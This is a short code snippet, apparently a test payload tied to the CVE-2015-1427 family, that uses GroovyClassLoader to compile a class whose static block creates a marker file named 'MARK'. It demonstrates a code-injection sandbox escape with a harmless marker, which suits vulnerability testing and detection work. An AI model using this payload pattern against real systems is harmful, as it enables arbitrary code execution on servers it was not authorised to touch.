// CVE-2015-1427 family
// GroovyClassLoader compiles text
event X {
    on { 'a' }
    as {
        new GroovyClassLoader().parseClass("class A { static { new File('MARK').createNewFile() } }")
    }
}
